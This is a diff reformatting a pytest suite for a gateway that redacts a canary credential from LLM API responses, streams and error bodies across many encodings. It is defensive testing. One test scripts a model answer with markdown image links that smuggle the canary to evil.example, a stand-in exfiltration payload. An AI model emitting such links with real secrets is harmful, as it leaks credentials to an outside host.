@@ -21,7 +21,12 @@ from waiting import wait_until
 
 FULL = bool(os.environ.get("TOKEN_SHIELD_FULL"))
 CANARY = "sk-canary/Zq7+0123456789abcdefXYZ"
-PATHS = {"chat": "/v1/chat/completions", "completions": "/v1/completions", "messages": "/v1/messages", "embeddings": "/v1/embeddings"}
+PATHS = {
+    "chat": "/v1/chat/completions",
+    "completions": "/v1/completions",
+    "messages": "/v1/messages",
+    "embeddings": "/v1/embeddings",
+}
 CLIENT = httpx2.Client(trust_env=False, timeout=60)
 FORMS = {
     "plain": CANARY,
@@ -31,7 +36,12 @@ FORMS = {
     "escaped": "".join(f"\\u{byte:04x}" for byte in CANARY.encode()),
     "slashed": CANARY.replace("/", "\\/"),
     **{f"base64 {n}": base64.b64encode(b"x" * n + CANARY.encode()).decode() for n in range(3)},
-    **{f"base64url {n}": base64.urlsafe_b64encode(b"x" * n + CANARY.encode() + b"!").decode().rstrip("=") for n in range(3)},
+    **{
+        f"base64url {n}": base64.urlsafe_b64encode(b"x" * n + CANARY.encode() + b"!")
+        .decode()
+        .rstrip("=")
+        for n in range(3)
+    },
 }
 
 
@@ -49,7 +59,10 @@ def shows(text: str) -> bool:
     """Whether somebody who reads it closely finds the canary."""
     readings = {text}
     for _layer in range(2):
-        readings |= {one.replace("\\/", "/") for one in readings} | {re.sub(r"\\+u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), one) for one in readings}
+        readings |= {one.replace("\\/", "/") for one in readings} | {
+            re.sub(r"\\+u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), one)
+            for one in readings
+        }
         readings |= {unquote(one) for one in readings}
     return any(word in reading for reading in readings for word in [CANARY, *cores()])
 
@@ -69,9 +82,15 @@ def model() -> Iterator[Scripted]:
 @pytest.fixture(scope="module")
 def gateway(model: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
     os.environ["CANARY_CREDENTIAL"] = CANARY
-    quick = '[class.default]\nrpm = 10000000\nburst = 1000000\nin_flight = 64\noutput_tokens = 100000\nanswers = { fetched = "report", clicked = "report" }\n'
+    quick = (
+        "[class.default]\nrpm = 10000000\nburst = 1000000\nin_flight = 64\n"
+        'output_tokens = 100000\nanswers = { fetched = "report", clicked = "report" }\n'
+    )
     try:
-        with serve(tmp_path_factory.mktemp("secrets"), quick + fake_model(model.url, 'credential = "env:CANARY_CREDENTIAL"')) as served:
+        with serve(
+            tmp_path_factory.mktemp("secrets"),
+            quick + fake_model(model.url, 'credential = "env:CANARY_CREDENTIAL"'),
+        ) as served:
             yield served
             assert not shows(served.logged())
     finally:
@@ -79,10 +98,18 @@ def gateway(model: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterat
 
 
 def ask(gateway: Served, operation: str, mark: str, **more: object) -> httpx2.Response:
-    said = {"chat": {"messages": [{"role": "user", "content": mark}]}, "completions": {"prompt": mark}, "embeddings": {"input": mark}}
+    said = {
+        "chat": {"messages": [{"role": "user", "content": mark}]},
+        "completions": {"prompt": mark},
+        "embeddings": {"input": mark},
+    }
     said["messages"] = {**said["chat"], "max_tokens": 99}
     headers = {"authorization": f"Bearer {gateway.token}"}
-    return CLIENT.post(gateway.url + PATHS[operation], json={"model": MODEL, **said[operation], **more}, headers=headers)
+    return CLIENT.post(
+        gateway.url + PATHS[operation],
+        json={"model": MODEL, **said[operation], **more},
+        headers=headers,
+    )
 
 
 def documents(hole: str) -> Iterator[tuple[str, str, object]]:
@@ -91,28 +118,135 @@ def documents(hole: str) -> Iterator[tuple[str, str, object]]:
     message = {"role": "assistant", "content": "fine"}
 
     def chat(choice: dict[str, object], **more: object) -> dict[str, object]:
-        return {"id": "c", "object": "chat.completion", "created": 1, "model": MODEL, "choices": [choice], "usage": usage, **more}
+        return {
+            "id": "c",
+            "object": "chat.completion",
+            "created": 1,
+            "model": MODEL,
+            "choices": [choice],
+            "usage": usage,
+            **more,
+        }
 
     plain = {"index": 0, "message": message, "finish_reason": "stop"}
-    call = {"id": "c", "type": "function", "function": {"name": "go", "arguments": json.dumps({"with": [hole]})}}
+    call = {
+        "id": "c",
+        "type": "function",
+        "function": {"name": "go", "arguments": json.dumps({"with": [hole]})},
+    }
     yield "chat", "content", chat({**plain, "message": {**message, "content": f"it is {hole}."}})
     yield "chat", "reasoning", chat({**plain, "message": {**message, "reasoning_content": hole}})
     yield "chat", "refusal", chat({**plain, "message": {**message, "refusal": hole}})
-    yield "chat", "arguments", chat({**plain, "message": {**message, "content": None, "tool_calls": [call]}})
-    yield "chat", "tool's name", chat({**plain, "message": {**message, "content": None, "tool_calls": [{**call, "function": {"name": hole, "arguments": "{}"}}]}})
-    yield "chat", "tool's id", chat({**plain, "message": {**message, "content": None, "tool_calls": [{**call, "id": hole}]}})
+    yield (
+        "chat",
+        "arguments",
+        chat({**plain, "message": {**message, "content": None, "tool_calls": [call]}}),
+    )
+    yield (
+        "chat",
+        "tool's name",
+        chat(
+            {
+                **plain,
+                "message": {
+                    **message,
+                    "content": None,
+                    "tool_calls": [{**call, "function": {"name": hole, "arguments": "{}"}}],
+                },
+            }
+        ),
+    )
+    yield (
+        "chat",
+        "tool's id",
+        chat(
+            {**plain, "message": {**message, "content": None, "tool_calls": [{**call, "id": hole}]}}
+        ),
+    )
     yield "chat", "finish reason", chat({**plain, "finish_reason": hole})
     for name in ["id", "model", "system_fingerprint", "service_tier", "debug"]:
         yield "chat", name, chat(plain, **{name: hole})
     yield "chat", "nested", chat(plain, debug={"headers": [{"Authorization": [hole]}]})
     yield "chat", "a name", chat(plain, debug={hole: 1})
-    yield "chat", "tokens", chat({**plain, "logprobs": {"content": [{"token": letter, "logprob": -1, "top_logprobs": []} for letter in hole]}})
-    yield "chat", "parts", chat({**plain, "message": {**message, "content": [{"type": "text", "text": hole[:9]}, {"type": "text", "text": hole[9:]}]}})
-    yield "completions", "text", {"id": "c", "object": "text_completion", "model": MODEL, "choices": [{"index": 0, "text": hole, "finish_reason": "stop"}], "usage": usage}
-    yield "embeddings", "embedding", {"object": "list", "model": MODEL, "data": [{"object": "embedding", "index": 0, "embedding": hole}], "usage": usage}
-    yield "embeddings", "model", {"object": "list", "model": hole, "data": [{"object": "embedding", "index": 0, "embedding": [0.1]}], "usage": usage}
-    for block in [{"type": "text", "text": hole}, {"type": "thinking", "thinking": hole, "signature": "x"}, {"type": "tool_use", "id": "t", "name": "go", "input": {"with": hole}}]:
-        yield "messages", block["type"], {"id": "m", "type": "message", "role": "assistant", "model": MODEL, "content": [block], "stop_reason": "end_turn", "usage": {"input_tokens": 1, "output_tokens": 1}}
+    yield (
+        "chat",
+        "tokens",
+        chat(
+            {
+                **plain,
+                "logprobs": {
+                    "content": [
+                        {"token": letter, "logprob": -1, "top_logprobs": []} for letter in hole
+                    ]
+                },
+            }
+        ),
+    )
+    yield (
+        "chat",
+        "parts",
+        chat(
+            {
+                **plain,
+                "message": {
+                    **message,
+                    "content": [
+                        {"type": "text", "text": hole[:9]},
+                        {"type": "text", "text": hole[9:]},
+                    ],
+                },
+            }
+        ),
+    )
+    yield (
+        "completions",
+        "text",
+        {
+            "id": "c",
+            "object": "text_completion",
+            "model": MODEL,
+            "choices": [{"index": 0, "text": hole, "finish_reason": "stop"}],
+            "usage": usage,
+        },
+    )
+    yield (
+        "embeddings",
+        "embedding",
+        {
+            "object": "list",
+            "model": MODEL,
+            "data": [{"object": "embedding", "index": 0, "embedding": hole}],
+            "usage": usage,
+        },
+    )
+    yield (
+        "embeddings",
+        "model",
+        {
+            "object": "list",
+            "model": hole,
+            "data": [{"object": "embedding", "index": 0, "embedding": [0.1]}],
+            "usage": usage,
+        },
+    )
+    for block in [
+        {"type": "text", "text": hole},
+        {"type": "thinking", "thinking": hole, "signature": "x"},
+        {"type": "tool_use", "id": "t", "name": "go", "input": {"with": hole}},
+    ]:
+        yield (
+            "messages",
+            block["type"],
+            {
+                "id": "m",
+                "type": "message",
+                "role": "assistant",
+                "model": MODEL,
+                "content": [block],
+                "stop_reason": "end_turn",
+                "usage": {"input_tokens": 1, "output_tokens": 1},
+            },
+        )
 
 
 @pytest.mark.parametrize("form", FORMS)
@@ -121,31 +255,61 @@ def test_whole_answers(gateway: Served, model: Scripted, form: str) -> None:
         model.say(f"{form} {number}", whole(document))
         answer = ask(gateway, operation, f"{form} {number}")
         # Names that are written with escapes are refused whatever they say.
-        assert answer.status_code == 200 or (place == "a name" and "\\" in FORMS[form]), (place, answer.text)
+        assert answer.status_code == 200 or (place == "a name" and "\\" in FORMS[form]), (
+            place,
+            answer.text,
+        )
         assert not shows(answer.text) and not shows(str(answer.headers)), (place, answer.text)
-        assert answer.status_code == 502 or "[credential]" in answer.text or '"logprobs":null' in answer.text, (place, answer.text)
+        assert (
+            answer.status_code == 502
+            or "[credential]" in answer.text
+            or '"logprobs":null' in answer.text
+        ), (place, answer.text)
 
 
 @pytest.mark.parametrize("form", FORMS)
 def test_errors(gateway: Served, model: Scripted, form: str) -> None:
     hole = FORMS[form]
-    errors = [{"error": {"message": f"key {hole} is bad", "type": "x", "code": hole}}, {"error": hole}, {"object": "error", "message": hole}, {"detail": [{"msg": hole, "input": {"headers": {"a": hole}}}]}]
-    for number, (status, error) in enumerate((status, error) for status in (400, 404, 429, 500, 503) for error in errors):
+    errors = [
+        {"error": {"message": f"key {hole} is bad", "type": "x", "code": hole}},
+        {"error": hole},
+        {"object": "error", "message": hole},
+        {"detail": [{"msg": hole, "input": {"headers": {"a": hole}}}]},
+    ]
+    for number, (status, error) in enumerate(
+        (status, error) for status in (400, 404, 429, 500, 503) for error in errors
+    ):
         model.say(f"error {form} {number}", whole(error, status, retry_after=hole, x_debug=hole))
         for operation in PATHS:
             answer = ask(gateway, operation, f"error {form} {number}")
-            assert answer.status_code == status and not shows(answer.text) and not shows(str(answer.headers)), answer.text
+            assert (
+                answer.status_code == status
+                and not shows(answer.text)
+                and not shows(str(answer.headers))
+            ), answer.text
             assert "retry-after" not in answer.headers
     for status in (401, 403, 302, 200):
-        model.say(f"odd {form} {status}", whole(f"<p>{hole}</p>".encode(), status, media="text/html"))
+        model.say(
+            f"odd {form} {status}", whole(f"<p>{hole}</p>".encode(), status, media="text/html")
+        )
         answer = ask(gateway, "chat", f"odd {form} {status}")
-        assert answer.status_code == 502 and not shows(answer.text) and not shows(str(answer.headers))
+        assert (
+            answer.status_code == 502 and not shows(answer.text) and not shows(str(answer.headers))
+        )
         request = answer.headers["token-shield-request"]
         assert not shows(binary("why", request, "--data", str(gateway.data)).out)
 
 
 def chunk(delta: dict[str, object], finish: str | None = None) -> bytes:
-    return event({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": MODEL, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
+    return event(
+        {
+            "id": "c",
+            "object": "chat.completion.chunk",
+            "created": 1,
+            "model": MODEL,
+            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
+        }
+    )
 
 
 def block(**delta: object) -> bytes:
@@ -156,12 +320,32 @@ def call(arguments: str) -> dict[str, object]:
     return {"tool_calls": [{"index": 0, "function": {"arguments": arguments}}]}
 
 
-OPENED = {"type": "message_start", "message": {"id": "m", "type": "message", "role": "assistant", "model": MODEL, "content": [], "usage": {"input_tokens": 1, "output_tokens": 1}}}
+OPENED = {
+    "type": "message_start",
+    "message": {
+        "id": "m",
+        "type": "message",
+        "role": "assistant",
+        "model": MODEL,
+        "content": [],
+        "usage": {"input_tokens": 1, "output_tokens": 1},
+    },
+}
 STREAMS = {
     "content": ("chat", lambda piece: chunk({"content": piece})),
     "reasoning": ("chat", lambda piece: chunk({"reasoning_content": piece})),
     "arguments": ("chat", lambda piece: chunk(call(piece))),
-    "text": ("completions", lambda piece: event({"id": "c", "object": "text_completion", "model": MODEL, "choices": [{"index": 0, "text": piece, "finish_reason": None}]})),
+    "text": (
+        "completions",
+        lambda piece: event(
+            {
+                "id": "c",
+                "object": "text_completion",
+                "model": MODEL,
+                "choices": [{"index": 0, "text": piece, "finish_reason": None}],
+            }
+        ),
+    ),
     "message": ("messages", lambda piece: block(type="text_delta", text=piece)),
     "input": ("messages", lambda piece: block(type="input_json_delta", partial_json=piece)),
 }
@@ -169,11 +353,53 @@ STREAMS = {
 
 def streamed(operation: str, pieces: list[bytes], block_type: str = "text") -> bytes:
     if operation == "messages":
-        opened = event({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""} if block_type == "text" else {"type": "tool_use", "id": "t", "name": "go", "input": {}}}, "content_block_start")
-        ends = [event({"type": "content_block_stop", "index": 0}, "content_block_stop"), event({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 1}}, "message_delta"), event({"type": "message_stop"}, "message_stop")]
+        opened = event(
+            {
+                "type": "content_block_start",
+                "index": 0,
+                "content_block": {"type": "text", "text": ""}
+                if block_type == "text"
+                else {"type": "tool_use", "id": "t", "name": "go", "input": {}},
+            },
+            "content_block_start",
+        )
+        ends = [
+            event({"type": "content_block_stop", "index": 0}, "content_block_stop"),
+            event(
+                {
+                    "type": "message_delta",
+                    "delta": {"stop_reason": "end_turn"},
+                    "usage": {"output_tokens": 1},
+                },
+                "message_delta",
+            ),
+            event({"type": "message_stop"}, "message_stop"),
+        ]
         return stream(event(OPENED, "message_start"), opened, *pieces, *ends)
-    end = chunk({}, "stop") if operation == "chat" else event({"id": "c", "choices": [{"index": 0, "text": "", "finish_reason": "stop"}]})
-    begin = [chunk({"role": "assistant", "tool_calls": [{"index": 0, "id": "c", "type": "function", "function": {"name": "go", "arguments": ""}}]})] if block_type == "call" else []
+    end = (
+        chunk({}, "stop")
+        if operation == "chat"
+        else event({"id": "c", "choices": [{"index": 0, "text": "", "finish_reason": "stop"}]})
+    )
+    begin = (
+        [
+            chunk(
+                {
+                    "role": "assistant",
+                    "tool_calls": [
+                        {
+                            "index": 0,
+                            "id": "c",
+                            "type": "function",
+                            "function": {"name": "go", "arguments": ""},
+                        }
+                    ],
+                }
+            )
+        ]
+        if block_type == "call"
+        else []
+    )
     return stream(*begin, *pieces, end, event("[DONE]"))
 
 
@@ -185,8 +411,14 @@ def joined(answer: httpx2.Response) -> str:
             data = json.loads(line[6:])
             for choice in data.get("choices", []):
                 delta = choice.get("delta", {})
-                whole_text += [choice.get("text"), delta.get("content"), delta.get("reasoning_content")]
-                whole_text += [one["function"].get("arguments") for one in delta.get("tool_calls", [])]
+                whole_text += [
+                    choice.get("text"),
+                    delta.get("content"),
+                    delta.get("reasoning_content"),
+                ]
+                whole_text += [
+                    one["function"].get("arguments") for one in delta.get("tool_calls", [])
+                ]
             delta = data.get("delta", {})
             whole_text += [delta.get("text"), delta.get("partial_json")]
     return "".join(one for one in whole_text if one)
@@ -207,7 +439,9 @@ def test_streams_at_every_split(gateway: Served, model: Scripted, place: str, fo
         assert answer.status_code == 200, answer.text
         text = joined(answer)
         assert not shows(text) and not shows(answer.text), (pieces, text)
-        assert text.startswith("it is ") and "[credential]" in text and text.endswith(", she said"), (pieces, text)
+        assert (
+            text.startswith("it is ") and "[credential]" in text and text.endswith(", she said")
+        ), (pieces, text)
 
 
 @pytest.mark.parametrize("bare", ["sk-canary-0123456789abcdefXYZ", "31415926535897932384"])
@@ -215,31 +449,67 @@ def test_secrets_without_quotes(model: Scripted, tmp_path: Path, bare: str) -> N
     """A word or a number that stands in JSON as it is, for readers that take it."""
     (tmp_path / "credential").write_text(bare)
     (tmp_path / "credential").chmod(0o600)
-    with serve(tmp_path, fake_model(model.url, f'credential = "file:{tmp_path}/credential"')) as served:
+    with serve(
+        tmp_path, fake_model(model.url, f'credential = "file:{tmp_path}/credential"')
+    ) as served:
         error = b'{"error":{"message":"bad key","key":%s}}' % bare.encode()
         for status in (400, 500):
             model.say(f"bare {bare} {status}", whole(error, status))
             answer = ask(served, "chat", f"bare {bare} {status}")
-            assert answer.status_code == status and bare not in answer.text and answer.json()["error"]["key"] == "[credential]", answer.text
-        choice = b'"index":0,"finish_reason":"stop","%s":{"role":"assistant","content":"x","k":[1, %s]}'
-        model.say(f"bare {bare}", whole(b'{"choices":[{%s}]}' % (choice % (b"message", bare.encode()))))
+            assert (
+                answer.status_code == status
+                and bare not in answer.text
+                and answer.json()["error"]["key"] == "[credential]"
+            ), answer.text
+        choice = (
+            b'"index":0,"finish_reason":"stop","%s":{"role":"assistant","content":"x","k":[1, %s]}'
+        )
+        model.say(
+            f"bare {bare}", whole(b'{"choices":[{%s}]}' % (choice % (b"message", bare.encode())))
+        )
         answer = ask(served, "chat", f"bare {bare}")
-        assert answer.status_code == 200 and answer.json()["choices"][0]["message"]["k"] == [1, "[credential]"], answer.text
-        model.say(f"bare events {bare}", stream(b'data: {"choices":[{%s}]}\n\n' % (choice % (b"delta", bare.encode())), event("[DONE]")))
+        assert answer.status_code == 200 and answer.json()["choices"][0]["message"]["k"] == [
+            1,
+            "[credential]",
+        ], answer.text
+        model.say(
+            f"bare events {bare}",
+            stream(
+                b'data: {"choices":[{%s}]}\n\n' % (choice % (b"delta", bare.encode())),
+                event("[DONE]"),
+            ),
+        )
         answer = ask(served, "chat", f"bare events {bare}", stream=True)
-        assert answer.status_code == 200 and bare not in answer.text and '"[credential]"' in answer.text, answer.text
+        assert (
+            answer.status_code == 200
+            and bare not in answer.text
+            and '"[credential]"' in answer.text
+        ), answer.text
         assert bare not in served.logged()
 
 
 def test_numbers_and_words_come_out_byte_for_byte(gateway: Served, model: Scripted) -> None:
-    document = b'{"choices": [{"index": 0, "message": {"role": "assistant", "content": "x"}, "finish_reason": "stop", "n": [314159265358979323846, -1.5E-8, true, null]}]}'
+    document = (
+        b'{"choices": [{"index": 0, "message": {"role": "assistant", "content": "x"}, '
+        b'"finish_reason": "stop", "n": [314159265358979323846, -1.5E-8, true, null]}]}'
+    )
     model.say("honest numbers", whole(document))
     assert ask(gateway, "chat", "honest numbers").content == document
 
 
 def test_a_split_secret_behind_lines_that_were_removed(gateway: Served, model: Scripted) -> None:
     comments = b"".join(b": %s %s\n\n" % (CANARY.encode(), b"z" * 900) for _ in range(400))
-    model.say("removed lines", streamed("chat", [comments, chunk({"content": f"it is {CANARY[:14]}"}), chunk({"content": f"{CANARY[14:]}, she said"})]))
+    model.say(
+        "removed lines",
+        streamed(
+            "chat",
+            [
+                comments,
+                chunk({"content": f"it is {CANARY[:14]}"}),
+                chunk({"content": f"{CANARY[14:]}, she said"}),
+            ],
+        ),
+    )
     answer = ask(gateway, "chat", "removed lines", stream=True)
     assert joined(answer) == "it is [credential], she said"
 
@@ -247,8 +517,22 @@ def test_a_split_secret_behind_lines_that_were_removed(gateway: Served, model: S
 @pytest.mark.parametrize("cut", [1, 7, 8, 15, len(CANARY) - 1])
 def test_what_is_held_too_long_shows_little(gateway: Served, model: Scripted, cut: int) -> None:
     """More comes of another text than is held back."""
-    aside = [event({"choices": [{"index": 0, "delta": {"refusal": "y" * 20_000}, "finish_reason": None}]})] * 15
-    model.say(f"held {cut}", streamed("chat", [chunk({"content": f"it is {CANARY[:cut]}"}), *aside, chunk({"content": f"{CANARY[cut:]}, she said"})]))
+    aside = [
+        event(
+            {"choices": [{"index": 0, "delta": {"refusal": "y" * 20_000}, "finish_reason": None}]}
+        )
+    ] * 15
+    model.say(
+        f"held {cut}",
+        streamed(
+            "chat",
+            [
+                chunk({"content": f"it is {CANARY[:cut]}"}),
+                *aside,
+                chunk({"content": f"{CANARY[cut:]}, she said"}),
+            ],
+        ),
+    )
     text = joined(ask(gateway, "chat", f"held {cut}", stream=True))
     begun, mark, behind = text.removeprefix("it is ").partition("[credential]")
     assert mark and len(begun) <= 7 and CANARY.startswith(begun) and behind == ", she said", text
@@ -256,31 +540,81 @@ def test_what_is_held_too_long_shows_little(gateway: Served, model: Scripted, cu
 
 def test_error_events_and_other_lines(gateway: Served, model: Scripted) -> None:
     error = {"error": {"message": f"{CANARY} at {model.url}/v1 (127.0.0.1:{model.port})"}}
-    model.say("error event", stream(f": {CANARY}\n\n".encode(), chunk({"content": "a"}), event(error)))
+    model.say(
+        "error event", stream(f": {CANARY}\n\n".encode(), chunk({"content": "a"}), event(error))
+    )
     answer = ask(gateway, "chat", "error event", stream=True)
-    assert not shows(answer.text) and str(model.port) not in answer.text and "[upstream]" in answer.text, answer.text
-    typed = {"type": "error", "error": {"type": "api_error", "message": f"{CANARY} at 127.0.0.1:{model.port}"}}
+    assert (
+        not shows(answer.text)
+        and str(model.port) not in answer.text
+        and "[upstream]" in answer.text
+    ), answer.text
+    typed = {
+        "type": "error",
+        "error": {"type": "api_error", "message": f"{CANARY} at 127.0.0.1:{model.port}"},
+    }
     model.say("typed error", stream(event(OPENED, "message_start"), event(typed, "error")))
     answer = ask(gateway, "messages", "typed error", stream=True)
     assert not shows(answer.text) and str(model.port) not in answer.text, answer.text
 
 
-def test_addresses_of_upstreams_stay_inside_errors_and_stand_in_texts(gateway: Served, model: Scripted) -> None:
+def test_addresses_of_upstreams_stay_inside_errors_and_stand_in_texts(
+    gateway: Served, model: Scripted
+) -> None:
     place = f"127.0.0.1:{model.port}"
-    model.say("address error", whole({"error": {"message": f"connect to {model.url}/v1/x and {place} failed"}}, 500))
+    model.say(
+        "address error",
+        whole({"error": {"message": f"connect to {model.url}/v1/x and {place} failed"}}, 500),
+    )
     answer = ask(gateway, "chat", "address error")
     assert answer.json()["error"]["message"] == "connect to [upstream]/v1/x and [upstream] failed"
     text = f"the server listens at {place}, see {place}"
-    model.say("address text", whole({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}))
+    model.say(
+        "address text",
+        whole(
+            {
+                "choices": [
+                    {
+                        "index": 0,
+                        "message": {"role": "assistant", "content": text},
+                        "finish_reason": "stop",
+                    }
+                ]
+            }
+        ),
+    )
     assert ask(gateway, "chat", "address text").json()["choices"][0]["message"]["content"] == text
 
 
 def test_ordinary_answers_come_out_byte_for_byte(gateway: Served, model: Scripted) -> None:
-    texts = ["sk-", "sk-can", "ary is a bird", " %2F \\u0041 \\/ ", "\u00e9\u4e2d\U0001f600", "c2stY2FuYXJ5", ""]
+    texts = [
+        "sk-",
+        "sk-can",
+        "ary is a bird",
+        " %2F \\u0041 \\/ ",
+        "\u00e9\u4e2d\U0001f600",
+        "c2stY2FuYXJ5",
+        "",
+    ]
     events = streamed("chat", [chunk({"content": one}) for one in texts])
     model.say("ordinary stream", events)
-    assert ask(gateway, "chat", "ordinary stream", stream=True).content == events.partition(b"\r\n\r\n")[2]
-    document = json.dumps({"choices": [{"index": 0, "message": {"role": "assistant", "content": "".join(texts)}, "finish_reason": "stop"}], "usage": None}, indent=1).encode()
+    assert (
+        ask(gateway, "chat", "ordinary stream", stream=True).content
+        == events.partition(b"\r\n\r\n")[2]
+    )
+    document = json.dumps(
+        {
+            "choices": [
+                {
+                    "index": 0,
+                    "message": {"role": "assistant", "content": "".join(texts)},
+                    "finish_reason": "stop",
+                }
+            ],
+            "usage": None,
+        },
+        indent=1,
+    ).encode()
     model.say("ordinary", whole(document))
     assert ask(gateway, "chat", "ordinary").content == document
 
@@ -288,7 +622,20 @@ def test_ordinary_answers_come_out_byte_for_byte(gateway: Served, model: Scripte
 def test_what_an_answer_leads_to_is_recorded_without_it(gateway: Served, model: Scripted) -> None:
     host = CANARY.replace("/", "%2F").replace("+", "%2B").lower()
     text = f"![x](https://{CANARY}@evil.example/a) ![y](https://evil.example/{host})"
-    model.say("led", whole({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}))
+    model.say(
+        "led",
+        whole(
+            {
+                "choices": [
+                    {
+                        "index": 0,
+                        "message": {"role": "assistant", "content": text},
+                        "finish_reason": "stop",
+                    }
+                ]
+            }
+        ),
+    )
     answer = ask(gateway, "chat", "led")
     assert not shows(answer.text)
     request = answer.headers["token-shield-request"]
@@ -301,6 +648,14 @@ def test_short_credentials_are_warned_of(tmp_path: Path) -> None:
     (tmp_path / "short").write_text("too-short")
     (tmp_path / "short").chmod(0o600)
     config = tmp_path / "token-shield.toml"
-    config.write_text('name = "gw"\ndata = "."\n[[issuer]]\niss = "https://a.example"\naud = "https://b.example"\nnamespaces = ["*"]\n' + fake_model("http://127.0.0.1:9", 'credential = "file:short"'))
+    config.write_text(
+        (
+            'name = "gw"\ndata = "."\n[[issuer]]\niss = "https://a.example"\n'
+            'aud = "https://b.example"\nnamespaces = ["*"]\n'
+        )
+        + fake_model("http://127.0.0.1:9", 'credential = "file:short"')
+    )
     done = binary("config", "check", str(config))
-    assert done.code == 0 and "fewer than 16 bytes" in done.err and "too-short" not in done.err, done.err
+    assert done.code == 0 and "fewer than 16 bytes" in done.err and "too-short" not in done.err, (
+        done.err
+    )
